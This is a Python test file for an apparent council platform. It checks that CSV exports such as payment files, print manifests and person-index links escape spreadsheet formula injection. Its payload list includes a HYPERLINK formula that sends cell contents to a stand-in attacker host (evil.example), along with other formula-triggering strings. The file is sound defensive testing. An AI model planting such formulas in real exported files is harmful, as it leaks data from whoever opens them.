"""Every CSV file the platform hands to someone else (the bank's payment file, the print
supplier's manifest, the person index's links) goes through one writer that keeps what
people typed from running as a spreadsheet formula (OWASP's CSV injection advice)."""

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command

from commonweal.core.csvfiles import spreadsheet_safe
from commonweal.messaging.letters import LetterContent, build_print_batch, render_letter_pdf
from commonweal.payments import formats

# The payloads an attacker's test used, and the other ways a cell starts a formula.
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
SUM = "@SUM(1)"
PAYLOADS = [HYPERLINK, SUM, "+1+1", "-1+1", "\t=1+1", "\r=1+1"]


def _cells_starting_a_formula(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


def test_the_writer_quotes_formulas_and_leaves_numbers_alone():
    for payload in PAYLOADS:
        assert spreadsheet_safe(payload) == "'" + payload
    assert spreadsheet_safe("Siân O'Brien-Jones") == "Siân O'Brien-Jones"
    # Real amounts stay numbers, negative ones too: a number is not a formula.
    assert spreadsheet_safe(81_200) == 81_200 and spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(None) == ""


def test_the_print_manifest_keeps_formulas_out():
    address = [HYPERLINK, SUM, "+44 Street", "-Town", "Denbighshire", "LL15 1AB"]
    content = LetterContent(
        reference="BL-AAAA-0001",
        subject={"en": "Your application"},
        body={"en": "We have your application."},
        address_lines=address,
        date=datetime.date(2026, 11, 26),
        organisation={"name": "Demo Council"},
    )
    pdf = render_letter_pdf(content)
    metadata = {"reference": "=1+1", "address_lines": address, "large_print": False}
    out = io.BytesIO()
    build_print_batch(iter([("msg-1", pdf, metadata)]), out)
    manifest = zipfile.ZipFile(out).read("manifest.csv").decode("utf-8")
    assert _cells_starting_a_formula(manifest) == []
    row = next(csv.DictReader(io.StringIO(manifest)))
    assert row["name"] == "'" + HYPERLINK
    assert row["address_line_1"] == "'" + SUM
    assert row["address_line_2"] == "'+44 Street" and row["address_line_3"] == "'-Town"
    assert row["reference"] == "'=1+1"
    assert row["postcode"] == "LL15 1AB" and row["pages"] == "1"


def test_the_payment_file_keeps_formulas_out_and_amounts_as_numbers():
    batch = formats.BatchFile(
        batch_id=42,
        day=datetime.date(2026, 11, 26),
        processing_day=datetime.date(2026, 11, 27),
        originator=formats.Originator("401276", "12345678", "Demo Council Loans", "123456"),
        payments=[
            formats.Payment("BL-ABCD-2345", HYPERLINK, "309430", "00733445", 81_200),
            formats.Payment("BL-EFGH-6789", SUM, "200000", "55779911", 5),
        ],
    )
    text = formats.get_format("csv").render(batch).decode()
    assert _cells_starting_a_formula(text) == []
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][1] == "'" + HYPERLINK and rows[2][1] == "'" + SUM
    assert rows[1][4] == "81200" and rows[-1] == ["TOTAL", "2", "", "", "81205"]


def test_the_person_index_links_keep_formulas_out(db, tmp_path):
    from commonweal.personindex import services

    source = tmp_path / "housing.csv"
    source.write_text(
        "source_id,given_name,family_name,date_of_birth,postcode,address_line_1,town,"
        "ni_number,email,phone\n"
        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",Sam,Evans,1979-11-04,CF83 1AA,,,,,\n'
        f"{SUM},Jo,Price,1985-06-01,NP20 1AA,,,,,\n",
        encoding="utf-8",
    )
    services.records_import(source="housing", path=source)
    out = io.StringIO()
    call_command("people", "links", "--format", "csv", stdout=out)
    assert _cells_starting_a_formula(out.getvalue()) == []
    ids = {row[1] for row in csv.reader(io.StringIO(out.getvalue()))}
    assert {"'" + HYPERLINK, "'" + SUM} <= ids


# Files only the platform itself reads back keep their values exactly; anything written for
# someone else must use commonweal.core.csvfiles.
WRITTEN_FOR_OURSELVES = {
    "core/csvfiles.py",  # the writer itself
    "personindex/services.py",  # the platform's own people, read back by the importer
    "devtools/synthetic.py",  # made-up populations for tests and benches
    "personindex/normalise.py",  # rows as CSV text for tests and benches
}


def test_no_export_writes_csv_around_the_safe_writer():
    package = Path(__file__).resolve().parents[1] / "src" / "commonweal"
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = sorted(
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    )
    assert set(found) <= WRITTEN_FOR_OURSELVES, found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_written_as_text(payload):
    out = io.StringIO()
    from commonweal.core.csvfiles import csv_writer

    csv_writer(out).writerow([payload, 12])
    cell, number = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cell == "'" + payload and number == "12"
